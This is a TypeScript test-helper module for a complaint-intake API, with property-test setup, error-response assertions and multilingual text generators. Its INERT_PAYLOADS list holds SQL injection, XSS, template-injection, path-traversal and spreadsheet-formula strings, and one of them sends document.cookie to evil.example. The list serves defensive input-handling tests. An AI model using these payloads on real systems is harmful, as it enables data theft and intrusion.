import fc from 'fast-check';
import type { Response } from 'supertest';
import type { TestHub } from '../support/test-hub';

/** Property runs are kept small so `npm test` stays fast; the seed is printed on a failure. */
export const RUNS = { numRuns: 40 };

// CI replays one fixed seed so a landing never hangs on luck; locally every run explores new
// inputs. FC_SEED=<n> replays a failure printed by either.
const seed = process.env.FC_SEED
  ? Number(process.env.FC_SEED)
  : process.env.CI
    ? 20261124
    : undefined;
if (seed !== undefined) fc.configureGlobal({ seed });

/** Rows intake may write, in one round trip. */
export async function rowCounts(hub: TestHub): Promise<Record<string, number>> {
  const [row] = await hub.prisma.$queryRaw<Record<string, bigint>[]>`
    SELECT (SELECT count(*) FROM complaints) AS complaints,
           (SELECT count(*) FROM dispatches) AS dispatches,
           (SELECT count(*) FROM status_events) AS events,
           (SELECT count(*) FROM idempotency_keys) AS keys`;
  return Object.fromEntries(Object.entries(row).map(([k, v]) => [k, Number(v)]));
}

/** The invariants every refused request must hold: a 4xx, problem+json, RFC 9457 members. */
export function expectCleanRefusal(res: Response): void {
  expect(res.status).toBeGreaterThanOrEqual(400);
  expect(res.status).toBeLessThan(500);
  expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
  const body = JSON.parse(res.text) as Record<string, unknown>;
  expect(body).toEqual(
    expect.objectContaining({
      type: expect.any(String),
      title: expect.any(String),
      status: res.status,
      detail: expect.any(String),
    }),
  );
}

/** Never a 5xx; any error is problem+json. */
export function expectNoServerError(res: Response): void {
  expect(res.status).toBeLessThan(500);
  if (res.status >= 400) expectCleanRefusal(res);
}

const range = (from: number, to: number) =>
  fc.integer({ min: from, max: to }).map((cp) => String.fromCodePoint(cp));

/** Letters of scripts citizens write in: Devanagari, Bengali, Gurmukhi, Tamil, Urdu, plus emoji. */
export const indicChar = fc.oneof(
  range(0x0900, 0x097f),
  range(0x0980, 0x09ff),
  range(0x0a00, 0x0a7f),
  range(0x0b80, 0x0bff),
  range(0x0600, 0x06ff),
  range(0x1f300, 0x1f64f),
  fc.constantFrom(' ', '\n', '\t', '।', '₹', '"', "'", '\\', '<', '>', '&', '%', '_'),
);

/** Text that is valid for intake once trimmed: starts and ends with a letter, no control chars. */
export function scriptText(minLength: number, maxLength: number) {
  return fc
    .array(indicChar, { minLength, maxLength })
    .map((chars) => `क${chars.join('')}ம`)
    .filter((s) => s.length <= maxLength + 4);
}

/** Payloads that would do harm if a layer interpreted them instead of storing them. */
export const INERT_PAYLOADS = [
  "'); DROP TABLE complaints; --",
  "1' OR '1'='1' --",
  'Robert"); DELETE FROM dispatches WHERE ("1"="1',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
  '{{constructor.constructor("return process")().exit()}}',
  '${process.exit(1)} #{7*7} <%= 7*7 %>',
  '../../../../etc/passwd\\..\\..\\windows\\win.ini',
  '=HYPERLINK("http://evil.example","click") +SUM(1,1) @cmd',
];
